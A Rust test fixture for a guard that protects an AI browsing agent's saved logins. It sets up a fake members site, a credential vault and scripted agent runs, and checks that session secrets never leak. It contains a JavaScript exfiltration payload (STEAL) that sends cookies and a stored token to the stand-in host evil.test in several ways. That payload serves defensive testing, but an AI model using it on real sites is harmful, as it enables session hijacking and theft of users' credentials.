//! The site of members, and the world of a test: its browser, its vault with a saved login, and the runs of an agent.

use std::path::PathBuf;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use portcullis::audit::MemoryLog;
use portcullis::consent::{Answer, Answerer, Asked, ConsentPrompt, ScriptedAnswerer};
use portcullis::guard::{Replaced, SystemEntropy, UserVault, VaultKey};
use portcullis::policy::{Policy, authority};
use portcullis::session::LoginByHand;
use portcullis::signals::playwright::{Browser, BrowserSettings};
use portcullis::signals::{ElementRef, Origin, Verb};
use portcullis::storage::SafeFolder;
use portcullis::storage::login_folder::LoginFolder;
use portcullis::storage::vault_file::VaultFile;
use portcullis::{Action, DEFAULT_POLICY, Guard, Session};
use sirl::Field;
use tempfile::TempDir;
use vault::{Binding, KdfParams, Secret, Vault};

use crate::tls_sites::{Request, serve};

pub(super) const HOST: &str = "members.test";
pub(super) const ORIGIN: &str = "https://members.test";
pub(super) const EVIL_HOST: &str = "evil.test";
pub(super) const EVIL: &str = "https://evil.test";
pub(super) const PASSPHRASE: &str = "correct horse battery staple";
pub(super) const PATIENCE: Duration = Duration::from_secs(60);

/// The secrets of one run. Twin runs differ in nothing else.
#[derive(Clone, Copy)]
pub(super) struct Secrets {
    /// The beginning of every session cookie.
    pub(super) session: &'static str,
    /// The token in the local storage.
    pub(super) stored: &'static str,
    /// The token in a cookie that scripts read.
    pub(super) readable: &'static str,
}

impl Secrets {
    pub(super) fn all(self) -> [&'static str; 3] {
        [self.session, self.stored, self.readable]
    }
}

pub(super) const FIRST: Secrets = Secrets {
    session: "s3ss10n-opal-kettle-7",
    stored: "st0red-seven-green-kettles-4",
    readable: "r3adable-quarry-otter-31",
};
pub(super) const SECOND: Secrets = Secrets {
    session: "z9qq77n-zinc-barrel-29",
    stored: "zz9red-eight-black-barrels-8",
    readable: "z7adable-meadow-hornet-9",
};

/// What a person does in the page of the login, by a script of the test's, and what the site keeps then.
pub(super) const BY_HAND: &str =
    "fetch('/login', { method: 'POST', body: 'user=Marguerite' }).then(() => { location.href = '/kept'; })";
/// A page that shows what its scripts can read.
pub(super) const ECHO: &str =
    "out.textContent = 'cookie ' + document.cookie + ' storage ' + localStorage.token";
/// Sends what scripts can read to another site, in each of several ways.
pub(super) const STEAL: &str = "const all = encodeURIComponent(document.cookie + localStorage.token);\
    fetch('https://evil.test/fetch?' + all, { mode: 'no-cors' }).catch(() => 0);\
    new Image().src = 'https://evil.test/image?' + all; navigator.sendBeacon('https://evil.test/beacon', all);\
    setTimeout(() => { location.href = 'https://evil.test/gone?' + all; }, 300)";

#[derive(Default)]
pub(super) struct Served {
    /// The session cookie that is good now.
    pub(super) good: String,
    pub(super) member: String,
    given: u64,
    /// Whether each page gives a new session cookie, and ends the one before.
    pub(super) rotates: bool,
    /// The script of the page for strangers, and of the member's page.
    pub(super) stranger: &'static str,
    pub(super) script: &'static str,
    /// Whether the site takes everybody for its member.
    pub(super) anybody: bool,
    /// Whether the first page leads a stranger to another site.
    pub(super) leads_away: bool,
    /// True if the site serves `/robots.txt` as plain text; otherwise it serves a page there.
    pub(super) has_robots: bool,
    /// Whether the user begins to act in the page, which asks for this.
    pub(super) user_acts: bool,
    pub(super) arrived: Vec<String>,
}

pub(super) struct Site {
    pub(super) secrets: Secrets,
    pub(super) served: Mutex<Served>,
}

impl Site {
    fn answer(&self, request: &Request) -> String {
        let (method, path) = request.line();
        let host = request.header("host").unwrap_or_default();
        let cookies = request.header("cookie").unwrap_or_default();
        let mut served = self.served.lock().unwrap();
        served.arrived.push(format!("{host} {method} {path} {cookies} {}", request.body));
        let page = |set: &str, body: &str| {
            let body = format!("<!doctype html><meta charset=utf-8><title>Members</title><body>{body}");
            let length = body.len();
            format!(
                "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {length}\r\n{set}Connection: close\r\n\r\n{body}"
            )
        };
        let sid = |value: &str| {
            format!("Set-Cookie: sid={value}; Path=/; Secure; HttpOnly; SameSite=Lax; Max-Age=864000\r\n")
        };
        let begin = |served: &mut Served, member: &str| {
            served.given += 1;
            served.good = format!("{}-{:06}", self.secrets.session, served.given);
            served.member = member.to_owned();
            sid(&served.good)
        };
        if host != HOST {
            return page("", "<h1>Elsewhere</h1>");
        }
        if path == "/robots.txt" && served.has_robots {
            return "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 14\r\nConnection: close\r\n\r\nUser-agent: *\n"
                .to_owned();
        }
        if path == "/acts" {
            return page("", if served.user_acts { "the user acts" } else { "nobody acts" });
        }
        if method == "POST" && path == "/login" {
            let member =
                request.body.split('&').next().unwrap_or_default().trim_start_matches("user=").to_owned();
            let set = begin(&mut served, &member);
            return page(&set, "<h1>Welcome</h1>");
        }
        if path == "/logout" {
            served.good = "of nobody".to_owned();
            return page(&sid("l0gged-out-l0gged-out"), "<h1>Bye</h1>");
        }
        let is_member = !served.good.is_empty() && cookies.contains(&format!("sid={}", served.good));
        if !is_member && !served.anybody && served.leads_away && path == "/" {
            return format!(
                "HTTP/1.1 302 Found\r\nLocation: {EVIL}/authorize\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            );
        }
        if !is_member && !served.anybody {
            let form = "<h1>Please log in</h1><form method=post action=/login><label>User name <input name=user \
                autocomplete=username></label><label>Password <input type=password name=password></label>\
                <button>Log in</button></form>";
            return page("", &format!("{form}<script>{}</script>", served.stranger));
        }
        if path == "/kept" {
            let Secrets { stored, readable, .. } = self.secrets;
            let keeps = format!(
                "document.cookie = 'csrf={readable}; path=/; secure; max-age=864000'; document.cookie = 'theme=light; path=/';\
                 localStorage.token = '{stored}'; sessionStorage.tab = '1'; fetch('/ready')"
            );
            return page("", &format!("<h1>Hello</h1><script>{keeps}</script>"));
        }
        let member = served.member.clone();
        // The browser asks for the site's icon whenever it likes.
        let is_page = path == "/";
        let set = if served.rotates && is_page { begin(&mut served, &member) } else { String::new() };
        let body = format!(
            "<h1>Hello {member}</h1><p>Order 4711: one kettle</p><a href=/logout>Sign out</a>\
             <form method=post action=/save><label>Note <input name=note></label><button>Save note</button></form>\
             <form method=post action=/reach><label>Recovery phrase <input name=recovery></label><label>Payout <select name=payout>\
             <option>bank<option>wallet</select></label><label>Telephone <input name=tel></label>\
             <label><input type=checkbox name=post>Two-factor login: factor by post</label><button>Save account</button></form>\
             <p id=out></p><script>{}</script>",
            served.script
        );
        page(&set, &body)
    }

    pub(super) fn set(&self, change: impl FnOnce(&mut Served)) {
        change(&mut self.served.lock().unwrap());
    }

    pub(super) fn arrived_at(&self, host: &str) -> Vec<String> {
        let served = self.served.lock().unwrap();
        served.arrived.iter().filter(|line| line.starts_with(host)).cloned().collect()
    }

    pub(super) async fn until(&self, words: &str) {
        let began = Instant::now();
        while !self.served.lock().unwrap().arrived.iter().any(|line| line.contains(words)) {
            assert!(began.elapsed() < PATIENCE, "no {words} in {:?}", self.served.lock().unwrap().arrived);
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
}

/// The site, a browser's settings, and a vault with a saved login.
pub(super) struct World {
    pub(super) site: Arc<Site>,
    pub(super) home: TempDir,
    pub(super) settings: BrowserSettings,
}

impl World {
    pub(super) async fn new(secrets: Secrets) -> World {
        let site = Arc::new(Site { secrets, served: Mutex::default() });
        site.set(|served| (served.stranger, served.script) = (BY_HAND, ECHO));
        let home = tempfile::tempdir().unwrap();
        let serving = site.clone();
        let settings =
            serve(home.path(), &[HOST, EVIL_HOST], move |request| Some(serving.answer(request))).await;
        let world = World { site, home, settings };
        world.save().await;
        world.site.set(|served| served.stranger = "");
        world
    }

    pub(super) fn vault_path(&self) -> PathBuf {
        self.home.path().join("private/my.vault")
    }

    pub(super) async fn browser(&self) -> Browser {
        Browser::start(self.settings.clone()).await.unwrap()
    }

    /// The user logs in by hand, and the login is saved in a new vault.
    async fn save(&self) {
        let browser = self.browser().await;
        let login = LoginByHand::begin(&browser, &Origin::parse(ORIGIN).unwrap()).await.unwrap();
        self.site.until("GET /ready").await;
        let (state, not_taken) = login.take().await.unwrap();
        assert_eq!((not_taken.session_entries, not_taken.other_cookies), (1, 0));
        browser.close().await;

        let checked = Policy::parse(DEFAULT_POLICY).unwrap().compile().unwrap().check().unwrap();
        let (_, verifier) = authority(checked, [3; 16]);
        let passphrase = Secret::new(PASSPHRASE);
        let mut vault = Vault::create(&passphrase, &mut SystemEntropy, KdfParams::FLOOR, verifier).unwrap();
        // The user has a login at the other site too.
        let evil = Binding::parse(EVIL).unwrap();
        for (field, value) in [(Field::Username, "marguerite"), (Field::Password, "quarry otter 31")] {
            vault.insert("login:evil", field, Secret::new(value), &evil, &mut SystemEntropy).unwrap();
        }
        let now = std::time::SystemTime::UNIX_EPOCH.elapsed().unwrap().as_millis();
        let sealed = vault.save_login(&state, 7, u64::try_from(now).unwrap(), &mut SystemEntropy).unwrap();
        SafeFolder::open_or_make(self.vault_path().parent().unwrap()).unwrap();
        let folder = LoginFolder::beside(&self.vault_path());
        folder.write(sealed.login.file, &sealed.bytes).unwrap();
        VaultFile::create(&self.vault_path(), &vault.to_bytes(&mut SystemEntropy).unwrap()).unwrap();
    }

    /// A guard with the user's vault, whose user gives this answer to the question about the saved login, and yes to all others.
    pub(super) fn guard(&self, answer: Answer) -> (Guard, Arc<Mutex<Vec<String>>>, MemoryLog) {
        let prompts: Arc<Mutex<Vec<String>>> = Arc::default();
        let seen = prompts.clone();
        let user = ScriptedAnswerer(move |prompt: &ConsentPrompt| {
            seen.lock().unwrap().push(prompt.to_string());
            let is_about_it = prompt.asked.iter().any(|asked| matches!(asked, Asked::Restore { .. }));
            if is_about_it { answer } else { Answer::Once }
        });
        let (guard, log) = self.guard_of(Box::new(user));
        (guard, prompts, log)
    }

    /// A guard with the user's vault.
    pub(super) fn guard_of(&self, user: Box<dyn Answerer>) -> (Guard, MemoryLog) {
        let file = VaultFile::open(&self.vault_path()).unwrap();
        let (bytes, passphrase, log) = (file.bytes().to_vec(), Secret::new(PASSPHRASE), MemoryLog::default());
        let vault = UserVault {
            bytes: &bytes,
            key: VaultKey::Passphrase(&passphrase),
            keeper: Some(Box::new(file)),
            replaced: Replaced::Log,
        };
        let log_of_guard = Box::new(log.clone());
        let guard = Guard::with_vault(DEFAULT_POLICY, vault, log_of_guard, user, Box::new(SystemEntropy));
        (guard.unwrap().with_logins(LoginFolder::beside(&self.vault_path())), log)
    }

    /// Forgets the saved logins.
    pub(super) fn forget(&self) {
        let mut file = VaultFile::open(&self.vault_path()).unwrap();
        let checked = Policy::parse(DEFAULT_POLICY).unwrap().compile().unwrap().check().unwrap();
        let verifier = authority(checked, [4; 16]).1;
        let mut vault = Vault::unlock(file.bytes(), &Secret::new(PASSPHRASE), verifier).unwrap();
        for login in vault.saved_logins().unwrap() {
            vault.forget_login(login.id, &mut SystemEntropy).unwrap();
        }
        file.save(&vault.to_bytes(&mut SystemEntropy).unwrap()).unwrap();
    }

    pub(super) fn saved(&self) -> usize {
        let file = VaultFile::open(&self.vault_path()).unwrap();
        let checked = Policy::parse(DEFAULT_POLICY).unwrap().compile().unwrap().check().unwrap();
        let verifier = authority(checked, [4; 16]).1;
        let vault = Vault::unlock(file.bytes(), &Secret::new(PASSPHRASE), verifier).unwrap();
        vault.saved_logins().unwrap().len()
    }

    /// A task of an agent that opens the site and carries out these steps.
    pub(super) async fn run(&self, answer: Answer, steps: &[Step]) -> Run {
        self.run_of(&format!("Log in at {ORIGIN}/ and tell me my last order"), answer, steps).await
    }

    pub(super) async fn run_of(&self, prompt: &str, answer: Answer, steps: &[Step]) -> Run {
        let browser = self.browser().await;
        let (guard, prompts, log) = self.guard(answer);
        let mut session = Session::begin(guard, &browser, prompt).await.unwrap();
        let mut run = Run { logged_in: session.logged_in().is_some(), ..Run::default() };
        for step in steps {
            let act = match step {
                Step::Open(url) => Verb::Open { url: (*url).to_owned() },
                Step::Read => Verb::Read,
                Step::Wait => Verb::Wait { milliseconds: 600 },
                Step::Click(words) => Verb::click(find(&run, words)),
                Step::Type(words, text) => Verb::typed(find(&run, words), *text),
                Step::Select(words, option) => Verb::select(find(&run, words), *option),
            };
            run.answers.push(session.act(Action::Verb(act)).await.to_string());
        }
        session.finish().await;
        browser.close().await;
        run.prompts = std::mem::take(&mut *prompts.lock().unwrap());
        run.records = log.text();
        run
    }
}

pub(super) enum Step {
    Open(&'static str),
    Read,
    Wait,
    Click(&'static str),
    Type(&'static str, &'static str),
    Select(&'static str, &'static str),
}

pub(super) const HOME: [Step; 2] = [Step::Open("https://members.test/"), Step::Read];

/// What an agent's run showed.
#[derive(Default)]
pub(super) struct Run {
    pub(super) logged_in: bool,
    pub(super) answers: Vec<String>,
    pub(super) prompts: Vec<String>,
    pub(super) records: String,
}

impl Run {
    pub(super) fn text(&self) -> &str {
        self.answers.last().unwrap()
    }

    pub(super) fn question(&self) -> Option<&String> {
        self.prompts.iter().find(|prompt| prompt.contains("saved login"))
    }

    pub(super) fn tells_none_of(&self, secrets: Secrets) {
        for text in self.answers.iter().chain(&self.prompts).chain([&self.records]) {
            for secret in secrets.all() {
                assert!(!text.contains(secret), "{secret} in {text}");
            }
        }
    }
}

pub(super) fn find(run: &Run, words: &str) -> ElementRef {
    let text = run.answers.iter().rev().find(|text| text.contains(words)).unwrap();
    let line = text.lines().find(|line| line.contains(words) && line.contains("[ref=")).unwrap();
    ElementRef(line.split_once("[ref=").unwrap().1.split(']').next().unwrap().to_owned())
}

impl World {
    /// The same page in a container where a member logged in by hand.
    pub(super) async fn steal_without_rules(&self) -> Vec<String> {
        self.site.set(|served| {
            served.arrived.clear();
            served.stranger = "fetch('/login', { method: 'POST', body: 'user=Marguerite' }).then(() => fetch('/kept')).then(() => { \
                document.cookie = 'csrf=r3adable-quarry-otter-31; path=/; secure'; location.reload(); })";
        });
        let browser = self.browser().await;
        let login = LoginByHand::begin(&browser, &Origin::parse(ORIGIN).unwrap()).await.unwrap();
        self.site.until("evil.test GET /gone").await;
        drop(login);
        browser.close().await;
        self.site.arrived_at(EVIL_HOST)
    }
}
